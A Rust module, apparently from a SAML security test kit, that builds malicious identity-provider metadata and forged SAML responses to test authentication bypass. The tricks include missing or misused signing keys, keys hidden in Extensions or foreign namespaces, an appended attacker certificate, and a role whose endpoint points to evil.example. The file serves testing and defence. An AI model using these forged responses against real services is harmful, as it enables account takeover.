//! Attacks with metadata that has no key for signatures. A service that reads "no key" as "no check" believes
//! everything, and a service that uses any key in the document believes parties that it does not know.

use vouchsafe_crypto::Certificate;
use vouchsafe_xml::namespace::{DSIG, SAML_METADATA, SAML_PROTOCOL};

use super::scene::{Played, Scene};
use super::signature::x509;
use super::step::Step;
use super::{Attack, Base, Kind};
use crate::{KeyPair, Part, ResponseBuilder, Signed, keys};

const KNOWN: &str =
    "CVE-2026-28323 (SolarWinds), CVE-2026-89042 (passport-saml-encrypted), CVE-2026-16443 (Keycloak)";

const fn row(name: &'static str, description: &'static str, make: fn(&Scene<'_>) -> Played) -> Attack {
    Attack::played(name, Kind::Configuration, description, make)
        .from(Base::Configured)
        .starting(&[])
        .known_as(KNOWN)
}

pub(super) const ATTACKS: &[Attack] = &[
    row("configuration/no-key-unsigned", "no key at all, and a message without signature", |scene| {
        hostile(scene, "", unsigned(scene))
    }),
    row(
        "configuration/no-key-signed",
        "no key at all, and a message signed by the attacker's key",
        |scene| hostile(scene, "", by(scene, keys::attacker())),
    ),
    row("configuration/no-key-genuine", "no key at all, and a message that the right key signed", |scene| {
        hostile(scene, "", scene.message())
    }),
    row("configuration/no-use-unsigned", "a key for every use, and a message without signature", |scene| {
        hostile(scene, &descriptor(None, &info(genuine_key(scene))), unsigned(scene))
    }),
    row(
        "configuration/no-use-signed",
        "a key for every use, and a message signed by the attacker's key",
        |scene| hostile(scene, &descriptor(None, &info(genuine_key(scene))), by(scene, keys::attacker())),
    ),
    row(
        "configuration/encryption-unsigned",
        "a key for encryption alone, and a message without signature",
        |scene| hostile(scene, &encryption(), unsigned(scene)),
    ),
    row(
        "configuration/encryption-signed",
        "a key for encryption alone, and a message that it signed",
        |scene| hostile(scene, &encryption(), by(scene, keys::attacker())),
    ),
    row(
        "configuration/encryption-genuine",
        "a key for encryption alone, and a message by the attacker's own",
        |scene| hostile(scene, &encryption(), by(scene, keys::attacker_p256())),
    ),
    row("configuration/unknown-use", "a key for an unknown use, and a message that it signed", |scene| {
        let key = info(keys::attacker().certificate());
        hostile(scene, &descriptor(Some("anything"), &key), by(scene, keys::attacker()))
    }),
    row("configuration/use-upper-case", "a key for ENCRYPTION, and a message that it signed", |scene| {
        let key = info(keys::attacker().certificate());
        hostile(scene, &descriptor(Some("ENCRYPTION"), &key), by(scene, keys::attacker()))
    }),
    row("configuration/empty-key-info", "a KeyInfo without key, and a message without signature", |scene| {
        hostile(scene, &descriptor(Some("signing"), ""), unsigned(scene))
    }),
    row(
        "configuration/empty-certificate",
        "an empty certificate, and a message without signature",
        |scene| {
            let empty = "<ds:X509Data><ds:X509Certificate></ds:X509Certificate></ds:X509Data>";
            hostile(scene, &descriptor(Some("signing"), empty), unsigned(scene))
        },
    ),
    row(
        "configuration/not-a-certificate",
        "an invalid certificate, and a message by the attacker's key",
        |scene| {
            let none = "<ds:X509Data><ds:X509Certificate>AAAA</ds:X509Certificate></ds:X509Data>";
            hostile(scene, &descriptor(Some("signing"), none), by(scene, keys::attacker()))
        },
    ),
    row(
        "configuration/key-name",
        "a KeyName alone, and a message by the attacker's key under that name",
        |scene| {
            let name = "<ds:KeyName>vouchsafe-testkit</ds:KeyName>";
            hostile(scene, &descriptor(Some("signing"), name), by(scene, keys::attacker()))
        },
    ),
    row("configuration/other-role", "the only key is that of the service provider role beside", |scene| {
        let key = descriptor(Some("signing"), &info(keys::attacker().certificate()));
        let beside = format!(
            "<md:SPSSODescriptor protocolSupportEnumeration=\"{SAML_PROTOCOL}\">{key}<md:AssertionConsumerService \
             Binding=\"urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST\" Location=\"https://evil.example/acs\" \
             index=\"0\"/></md:SPSSODescriptor>"
        );
        let metadata = metadata(scene, "", &beside);
        posted(metadata, scene, by(scene, keys::attacker()))
    }),
    row(
        "configuration/extensions",
        "the attacker's key is a KeyDescriptor in the Extensions of the role",
        |scene| {
            let key = descriptor(Some("signing"), &info(keys::attacker().certificate()));
            let extensions = format!("<md:Extensions>{key}</md:Extensions>");
            let genuine = descriptor(Some("signing"), &info(genuine_key(scene)));
            hostile(scene, &[extensions, genuine].concat(), by(scene, keys::attacker()))
        },
    ),
    row(
        "configuration/foreign-descriptor",
        "the attacker's key is a KeyDescriptor of another namespace",
        |scene| {
            let key = descriptor(Some("signing"), &info(keys::attacker().certificate()));
            let foreign = key.replace("md:KeyDescriptor", "x:KeyDescriptor").replacen(
                "<x:KeyDescriptor",
                "<x:KeyDescriptor xmlns:x=\"urn:example:x\"",
                1,
            );
            let genuine = descriptor(Some("signing"), &info(genuine_key(scene)));
            hostile(scene, &[foreign, genuine].concat(), by(scene, keys::attacker()))
        },
    ),
    row(
        "configuration/second-certificate",
        "the attacker's certificate follows the right one, as its chain",
        |scene| {
            let both = x509(&[genuine_key(scene), keys::attacker().certificate()]);
            hostile(scene, &descriptor(Some("signing"), &both), by(scene, keys::attacker()))
        },
    ),
];

/// The control: the published metadata, and a genuine message.
pub(super) fn genuine(scene: &Scene<'_>) -> Played {
    let metadata = scene.target().identity_provider.metadata()?;
    let form = scene.genuine(scene.attacker(), scene.message().issue()?.xml());
    Ok(vec![Step::Configured(metadata, form)])
}

fn hostile(scene: &Scene<'_>, descriptors: &str, message: ResponseBuilder) -> Played {
    posted(metadata(scene, descriptors, ""), scene, message)
}

fn posted(metadata: String, scene: &Scene<'_>, message: ResponseBuilder) -> Played {
    Ok(vec![Step::Configured(metadata, scene.hostile(message.issue()?.xml()))])
}

fn unsigned(scene: &Scene<'_>) -> ResponseBuilder {
    scene.message_about(scene.victim()).sign(Signed::Neither).omit(Part::KeyInfo)
}

fn by(scene: &Scene<'_>, key: &KeyPair) -> ResponseBuilder {
    scene.message_about(scene.victim()).key(key)
}

fn genuine_key<'s>(scene: &'s Scene<'_>) -> &'s Certificate {
    scene.target().identity_provider.key().certificate()
}

fn info(certificate: &Certificate) -> String {
    x509(&[certificate])
}

fn encryption() -> String {
    descriptor(Some("encryption"), &info(keys::attacker().certificate()))
}

fn descriptor(usage: Option<&str>, key: &str) -> String {
    let usage = usage.map(|usage| format!(" use=\"{usage}\"")).unwrap_or_default();
    format!("<md:KeyDescriptor{usage}><ds:KeyInfo xmlns:ds=\"{DSIG}\">{key}</ds:KeyInfo></md:KeyDescriptor>")
}

fn metadata(scene: &Scene<'_>, descriptors: &str, beside: &str) -> String {
    let identity_provider = &scene.target().identity_provider;
    format!(
        "<md:EntityDescriptor xmlns:md=\"{SAML_METADATA}\" entityID=\"{}\"><md:IDPSSODescriptor \
         protocolSupportEnumeration=\"{SAML_PROTOCOL}\">{descriptors}<md:SingleSignOnService \
         Binding=\"urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect\" Location=\"{}\"/></md:IDPSSODescriptor>{beside}\
         </md:EntityDescriptor>",
        identity_provider.entity_id(),
        identity_provider.single_sign_on(),
    )
}
